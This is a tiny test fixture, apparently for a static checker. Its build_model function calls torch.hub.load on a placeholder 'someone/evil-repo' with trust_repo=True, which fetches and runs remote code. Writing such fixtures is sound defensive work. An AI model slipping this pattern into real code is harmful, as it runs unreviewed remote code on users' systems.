# expect: static
# message: torch.hub
import torch


def build_model(input_shape, num_classes):
    return torch.hub.load("someone/evil-repo", "model", trust_repo=True)
